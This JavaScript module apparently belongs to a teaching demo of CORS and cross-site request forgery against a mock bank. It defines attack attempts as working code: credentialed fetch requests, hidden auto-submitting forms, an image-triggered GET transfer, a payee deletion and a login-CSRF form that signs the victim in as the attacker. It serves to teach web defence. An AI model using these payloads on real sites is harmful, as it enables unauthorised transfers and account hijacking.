// What the attackers' pages try. The code that a page shows is the source of the very function that it runs: `bank` is the
// API's origin, `stage` a hidden part of the page.

export const attempts = [
  {
    id: "read",
    goal: "Read data",
    title: "Read the balance",
    description: "A script requests Ada’s account, with her cookie, and reads the response.",
    request: "GET /accounts/ada",
    async run(bank) {
      const response = await fetch(`${bank}/accounts/ada`, {
        credentials: "include",
      });
      return response.text();
    },
  },
  {
    id: "fetch",
    goal: "Write data",
    title: "Transfer by fetch",
    description:
      "A body in a form’s format needs no preflight: the browser sends the request at once, and checks the CORS headers only afterwards.",
    request: "POST /transfers",
    async run(bank) {
      const response = await fetch(`${bank}/transfers`, {
        method: "POST",
        credentials: "include",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: "to=mallory&amount=100",
      });
      return response.text();
    },
  },
  {
    id: "form",
    goal: "Write data",
    title: "Transfer by form",
    description:
      "A script submits a hidden form into a hidden frame. No script reads the response, so CORS does not apply.",
    request: "POST /transfers",
    blind: "nothing: the response opens in a frame of the bank’s origin, which this page cannot read.",
    run(bank, stage) {
      stage.innerHTML = `
        <iframe name="unseen"></iframe>
        <form method="POST" action="${bank}/transfers" target="unseen">
          <input name="to" value="mallory">
          <input name="amount" value="100">
        </form>`;
      stage.querySelector("form").submit();
    },
  },
  {
    id: "form-top",
    goal: "Write data",
    title: "Transfer by form, in a new tab",
    description:
      "The same form at top level. Here, the bank is first-party, so rules about third-party cookies don’t help. The attack needs a click, and opens a tab.",
    request: "POST /transfers",
    opensTab: true,
    blind: "nothing: the response opens in another tab.",
    run(bank, stage) {
      stage.innerHTML = `
        <form method="POST" action="${bank}/transfers" target="_blank">
          <input name="to" value="mallory">
          <input name="amount" value="100">
        </form>`;
      stage.querySelector("form").submit();
    },
  },
  {
    id: "image",
    goal: "Write data",
    title: "Transfer by image",
    description:
      "The bank has an old endpoint: a GET that moves money. So the URL of an image is enough, even in a forum post.",
    request: "GET /transfers/quick",
    blind: "an image that does not load.",
    run(bank, stage) {
      const image = document.createElement("img");
      image.src = `${bank}/transfers/quick?to=mallory&amount=100`;
      stage.append(image);
    },
  },
  {
    id: "delete",
    goal: "Delete data",
    title: "Delete a payee",
    description:
      "No form can send DELETE, so the browser sends a preflight first. A server that allows every origin gives up that protection.",
    request: "DELETE /payees/${payee}",
    async run(bank, stage, payee) {
      const response = await fetch(`${bank}/payees/${payee}`, {
        method: "DELETE",
        credentials: "include",
      });
      return response.text();
    },
  },
  {
    id: "sign-in",
    goal: "Change who is signed in",
    title: "Sign Ada in as Mallory",
    description:
      "The page sends Mallory’s own password. What Ada then does at the bank happens in Mallory’s account. Try this last, and sign in as Ada again.",
    request: "POST /login",
    runsAlone: true,
    blind: "nothing: the response opens in a frame of the bank’s origin, which this page cannot read.",
    run(bank, stage) {
      stage.innerHTML = `
        <iframe name="unseen"></iframe>
        <form method="POST" action="${bank}/login" target="unseen">
          <input name="user" value="mallory">
          <input name="password" value="malice">
        </form>`;
      stage.querySelector("form").submit();
    },
  },
  {
    id: "rates",
    goal: "Read public data",
    title: "Read the rates",
    description: "This is not an attack: the rates are public. Sallyport lets any page read them, and removes cookies.",
    request: "GET /rates",
    open: true,
    async run(bank) {
      const response = await fetch(`${bank}/rates`);
      return response.text();
    },
  },
];

/** The body of the function that an attempt runs, as it stands in this file. */
export function sourceOf({ run }, payee) {
  const lines = run.toString().split("\n").slice(1, -1);
  const indent = Math.min(...lines.map((line) => line.search(/\S/)));
  return lines
    .map((line) => line.slice(indent))
    .join("\n")
    .replaceAll("${payee}", payee);
}
